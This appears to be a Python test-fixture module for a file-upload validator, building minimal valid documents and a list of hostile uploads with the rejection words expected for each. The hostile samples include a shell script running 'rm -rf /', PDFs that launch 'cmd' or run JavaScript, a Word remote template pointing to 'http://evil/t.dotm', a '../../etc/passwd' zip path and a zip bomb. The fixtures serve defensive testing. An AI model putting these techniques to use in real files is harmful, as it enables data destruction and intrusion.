"""Files for tests of attachments: the smallest honest ones of each kind, and hostile ones with the word that their refusal must hold."""

from __future__ import annotations

import io
import struct
import zipfile

from docx import Document
from openpyxl import Workbook

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 20
TIF = b"II*\x00" + b"\x00" * 20


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes | str]) -> bytes:
    """A zip again, with further parts or others in place of its own."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**kept, **parts})


def word() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("权责事项调整说明")
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def ofd() -> bytes:
    return zipped({"OFD.xml": "<?xml version='1.0'?><OFD/>", "Doc_0/Document.xml": "<Document/>", "Doc_0/Res/image_1.png": PNG})


def ole(*streams: str) -> bytes:
    """A bare OLE2 container with streams of these names (one sector each)."""
    sector, free, end = 512, 0xFFFFFFFF, 0xFFFFFFFE
    entries = [("Root Entry", 5, end, 0), *((name, 2, 2 + place, 4096) for place, name in enumerate(streams))]
    directory = b""
    for name, kind, start, size in entries:
        raw = name.encode("utf-16-le")
        head = raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw) + 2, kind, 1) + struct.pack("<LLL", free, free, free)
        directory += (head + b"\x00" * 36 + struct.pack("<LQ", start, size)).ljust(128, b"\x00")
    while len(directory) % sector:
        directory += b"\x00" * 128
    fat = [0xFFFFFFFD, end, *[end] * (len(streams) * 8)]
    sectors = len(directory) // sector
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
    header += struct.pack("<LLLLLLLLL", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109L", 0, *[free] * 108)
    body = struct.pack(f"<{len(fat)}L", *fat).ljust(sector, b"\xff") + directory[: sector * sectors]
    return header + body + b"\x00" * (sector * 8 * (len(streams) + 1))


GOOD = {
    "说明.pdf": (PDF, "pdf"),
    "公文.ofd": (ofd(), "ofd"),
    "申请表.docx": (word(), "docx"),
    "附表.xlsx": (excel(), "xlsx"),
    "扫描.png": (PNG, "png"),
    "扫描.JPEG": (JPG, "jpg"),
    "扫描.tiff": (TIF, "tif"),
    "旧文件.doc": (ole("WordDocument", "1Table"), "doc"),
}
_TEMPLATE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "empty": ("空.pdf", b"", "空的"),
    "html": ("通知.pdf", b"<html><script>alert(1)</script></html>", "网页"),
    "html with a mark": ("通知.pdf", b"\xef\xbb\xbf  <!DOCTYPE html><body onload=alert(1)>", "网页"),
    "svg": ("图.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "SVG"),
    "xml": ("图.ofd", b'<?xml version="1.0"?><a/>', "XML"),
    "program": ("扫描件.pdf.exe", b"MZ\x90\x00" + b"\x00" * 100, "程序"),
    "elf": ("扫描件.pdf", b"\x7fELF" + b"\x00" * 100, "程序"),
    "script": ("扫描件.pdf", b"#!/bin/sh\nrm -rf /", "程序"),
    "html before pdf": ("说明.pdf", b"<!-- " + PDF, "网页"),
    "pdf with javascript": ("说明.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(1)>>"), "脚本"),
    "pdf with hidden javascript": ("说明.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript>>"), "脚本"),
    "pdf that launches": ("说明.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S /Launch /F(cmd)>>"), "脚本"),
    "pdf with files inside": ("说明.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 3 0 R>>"), "内嵌文件"),
    "half a pdf": ("说明.pdf", PDF[:30], "不完整"),
    "word with macros": ("申请表.docx", with_parts(word(), {"word/vbaProject.bin": b"x"}), "宏"),
    "word with activex": ("申请表.docx", with_parts(word(), {"word/activeX/activeX1.xml": "<a/>"}), "宏"),
    "word with a program inside": ("申请表.docx", with_parts(word(), {"word/embeddings/oleObject1.bin": b"MZ"}), "嵌有别的文件"),
    "word with a remote template": ("申请表.docx", with_parts(word(), {"word/_rels/settings.xml.rels": _TEMPLATE}), "远程模板"),
    "excel with macro sheets": ("表.xlsx", with_parts(excel(), {"xl/macrosheets/sheet1.xml": "<a/>"}), "宏"),
    "old word with macros": ("旧.doc", ole("WordDocument", "Macros", "_VBA_PROJECT"), "宏"),
    "old file with a password": ("旧.doc", ole("EncryptedPackage", "EncryptionInfo"), "密码"),
    "old file with a file inside": ("旧.doc", ole("WordDocument", "ObjectPool"), "嵌有别的文件"),
    "any old file": ("旧.doc", ole("Something"), "不是文档"),
    "ofd with a program": ("公文.ofd", with_parts(ofd(), {"Doc_0/Attachs/a.exe": b"MZ"}), "不收的文件"),
    "zip": ("扫描.zip", zipped({"a.txt": "a"}), "压缩包"),
    "zip that leaves its folder": ("公文.docx", with_parts(word(), {"../../etc/passwd": "x"}), "不正常"),
    "zip bomb": ("公文.docx", with_parts(word(), {"word/big.xml": b"\x00" * 5_000_000}), "压缩"),
    "half a zip": ("公文.docx", word()[:500], "损坏"),
    "rar": ("扫描.pdf", b"Rar!\x1a\x07\x00", "压缩包"),
    "gif": ("扫描.gif", b"GIF89a" + b"\x00" * 30, "格式"),
    "webp": ("扫描.jpg", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "格式"),
    "text": ("说明.txt", "只是文字".encode(), "认不出"),
    "noise": ("说明.pdf", bytes(range(128, 256)) * 4, "认不出"),
    "broken ole": ("旧.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600, ""),
}
